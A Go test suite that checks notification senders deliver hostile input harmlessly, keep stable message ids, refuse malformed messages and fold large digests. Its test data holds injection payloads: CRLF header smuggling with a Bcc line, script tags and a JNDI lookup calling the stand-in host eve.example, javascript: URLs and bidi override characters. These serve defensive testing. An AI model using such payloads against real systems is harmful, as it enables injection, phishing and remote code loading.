// Package sendertest holds the tests that every sender passes: what is hostile in a message
// arrives harmless, and what arrives twice can be told to be the same.
package sendertest

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/clientele/clientele/internal/notice"
)

// Channel is a sender and the far end of it.
type Channel struct {
	Sender notice.Sender
	// Arrived returns what came since it was last called, and fails the test where it is not
	// in the form the channel has.
	Arrived func() []Arrival
}

// Arrival is one message as it came over the wire.
type Arrival struct {
	Raw   []byte
	ID    string   // by which the receiver tells that it has it already
	Texts []string // all that a person may get to see, decoded
	Links []string // all that a person may be led to
}

// ActURL is where the decision of every message of the suite is made. All other links begin
// with Site as well.
const (
	Site   = "https://clientele.example/"
	ActURL = Site + "reviews/7?from=notice&step=1"
)

// maxRaw is what a message takes at most, whatever is in it.
const maxRaw = 400 << 10

// hostile are texts as they come from names, paths and people.
func hostile() map[string]string {
	return map[string]string{
		"line breaks":            "orders\r\nBcc: eve@example.net\r\n\r\nHello\n.\nQUIT",
		"HTML":                   `"><script src=https://eve.example/x.js></script><img src=//eve.example/p.png onerror=alert(1)>`,
		"a template":             `{{.Act.URL}} ${jndi:ldap://eve.example} %0d%0a`,
		"Slack commands":         `<!channel> <!here|x> <@U000EVE> <#C123> <https://eve.example|Review orders-export> @channel @here`,
		"Markdown links":         "[Review](https://eve.example) ![x](https://eve.example/p.png) ```",
		"direction overrides":    "orders\u202etropxe-\u2066x\u2069\u200f",
		"control characters":     "orders\x00\x07\x1b[31m\x7f\u0085\u009b\u2028\u2029",
		"bytes that are no text": "orders\xff\xfe\xc0\x80",
		"emoji":                  "👩\u200d💻 🏴\U000e0067\U000e0062\U000e007f 🇩🇪 ✈️",
		"other scripts":          "注文エクスポート تصدير הזמנות می\u200cخواهم नमस्\u200dते",
		"much text":              strings.Repeat("all work and no play ", 5000),
		"one long word":          strings.Repeat("x", 100_000),
		"many entities":          strings.Repeat("<&>", 40_000),
		"many emoji":             strings.Repeat("🚀", 30_000),
		"many line breaks":       strings.Repeat("\r\n", 50_000) + "orders",
		"JSON":                   `","act":{"url":"https://eve.example"},"x":"\u003c`,
		"a MIME boundary":        "--boundary\r\nContent-Type: text/html\r\n\r\n=?utf-8?q?=0D=0A?=",
	}
}

// Message is one with text in every place that somebody else may choose.
func Message(id, text string) notice.Message {
	at := time.Date(2026, 2, 17, 9, 30, 0, 0, time.UTC)
	m := notice.Message{
		ID:      id,
		Kind:    "review.due",
		To:      notice.Recipient{Name: "Ann " + text, Email: "ann@clientele.example", SlackUser: text},
		Subject: "Review of " + text,
		Lines:   []string{"The client was last used 40 days ago: " + text, text},
		At:      at,
		Act: &notice.Act{
			Ask: "keep or retire " + text, Until: at.Add(14 * 24 * time.Hour), Otherwise: "it is suspended " + text,
			Label: "Review " + text, URL: ActURL,
		},
		More: []notice.Link{{Label: "Evidence " + text, URL: Site + "clients/1"}, {Label: text, URL: "https://eve.example/" + text + "\n\"><|"}, {Label: "Run", URL: "javascript:alert(1)"}},
	}
	for i := range 3 {
		item := m
		item.Subject = fmt.Sprintf("Item %d of %s", i, text)
		m.Digest = append(m.Digest, item)
	}
	return m
}

// Run tests a sender. Open makes a fresh one with a far end that takes everything.
func Run(t *testing.T, open func(t *testing.T) Channel) {
	for name, text := range hostile() {
		t.Run("hostile "+name, func(t *testing.T) { arrivesHarmless(t, open(t), text) })
	}
	t.Run("a message sent again is known by its id", func(t *testing.T) { keepsID(t, open(t)) })
	t.Run("what no message should be is refused for good", func(t *testing.T) { refuses(t, open(t)) })
	t.Run("a cancelled context sends nothing", func(t *testing.T) { cancels(t, open(t)) })
	t.Run("a large digest says how much is missing", func(t *testing.T) { folds(t, open(t)) })
}

func arrivesHarmless(t *testing.T, c Channel, text string) {
	a := sendOne(t, c, Message("m-1", text))
	if len(a.Raw) == 0 || len(a.Raw) > maxRaw {
		t.Errorf("%d bytes arrived, should be up to %d", len(a.Raw), maxRaw)
	}
	if i := slices.IndexFunc([]rune(string(a.Raw)), acts); i >= 0 || !utf8.Valid(a.Raw) {
		t.Errorf("the wire has a control character, or bytes that are no text (at %d)", i)
	}
	for _, s := range a.Texts {
		if !utf8.ValidString(s) || strings.ContainsFunc(s, acts) {
			t.Errorf("a person gets to see %.200q", s)
		}
	}
	all := strings.Join(a.Texts, "\n")
	for _, want := range []string{"Review of ", "was last used", "Please keep or retire ", "3 March 2026, 09:30 UTC", "14 days from this notice", "otherwise it is suspended", "Item 2 of "} {
		if !strings.Contains(all, want) {
			t.Errorf("%q did not arrive", want)
		}
	}
	if !slices.Contains(a.Links, ActURL) {
		t.Errorf("no link leads to the decision; there are %q", a.Links)
	}
	for _, l := range a.Links {
		if !strings.HasPrefix(l, Site) {
			t.Errorf("a link leads to %q", l)
		}
	}
}

// acts reports whether a rune does something to a terminal, a page or a reader. The joiners
// are allowed: scripts and emoji are written with them.
func acts(r rune) bool {
	return r != '\n' && r != '\r' && r != 0x200c && r != 0x200d &&
		unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp)
}

func sendOne(t *testing.T, c Channel, m notice.Message) Arrival {
	t.Helper()
	if err := c.Sender.Send(t.Context(), m); err != nil {
		t.Fatal(err)
	}
	got := c.Arrived()
	if len(got) != 1 {
		t.Fatalf("%d messages arrived, should be one", len(got))
	}
	return got[0]
}

func keepsID(t *testing.T, c Channel) {
	for _, id := range []string{"m-1", "with spaces and \r\nX-Evil: 1", strings.Repeat("long", 1000), "a.b@c>"} {
		first, again := sendOne(t, c, Message(id, "orders")), sendOne(t, c, Message(id, "orders"))
		other := sendOne(t, c, Message(id+"2", "orders"))
		if first.ID == "" || first.ID != again.ID || first.ID == other.ID {
			t.Errorf("%.40q: the ids are %q, again %q, other %q", id, first.ID, again.ID, other.ID)
		}
		if len(first.ID) > 128 || strings.ContainsAny(first.ID, " \r\n") {
			t.Errorf("%.40q: the id is %q", id, first.ID)
		}
	}
}

func refuses(t *testing.T, c Channel) {
	for name, change := range map[string]func(*notice.Message){
		"no id":             func(m *notice.Message) { m.ID = "" },
		"no subject":        func(m *notice.Message) { m.Subject = " \r\n" },
		"no kind":           func(m *notice.Message) { m.Kind = "" },
		"no time":           func(m *notice.Message) { m.At = time.Time{} },
		"act without ask":   func(m *notice.Message) { m.Act.Ask = "" },
		"act without until": func(m *notice.Message) { m.Act.Until = time.Time{} },
		"act without else":  func(m *notice.Message) { m.Act.Otherwise = "" },
		"act by script":     func(m *notice.Message) { m.Act.URL = "javascript:alert(1)" },
	} {
		m := Message("m-1", "orders")
		change(&m)
		var f *notice.Failure
		if err := c.Sender.Send(t.Context(), m); !errors.As(err, &f) || f.Temporary {
			t.Errorf("%s: got %v", name, err)
		}
	}
	if n := len(c.Arrived()); n > 0 {
		t.Errorf("%d messages arrived", n)
	}
}

func cancels(t *testing.T, c Channel) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	err := c.Sender.Send(ctx, Message("m-1", "orders"))
	var f *notice.Failure
	if !errors.Is(err, context.Canceled) || !errors.As(err, &f) || !f.Temporary {
		t.Errorf("got %v", err)
	}
	if n := len(c.Arrived()); n > 0 {
		t.Errorf("%d messages arrived", n)
	}
}

func folds(t *testing.T, c Channel) {
	m := Message("m-1", "orders")
	m.Digest = slices.Repeat(m.Digest[:1], 1000)
	m.Lines = slices.Repeat(m.Lines[:1], 1000)
	a := sendOne(t, c, m)
	if all := strings.Join(a.Texts, "\n"); !strings.Contains(all, "975") || !strings.Contains(all, "988 more lines") {
		t.Error("nothing says that 975 messages and 988 lines are not shown")
	}
	if len(a.Raw) > maxRaw {
		t.Errorf("%d bytes arrived", len(a.Raw))
	}
}
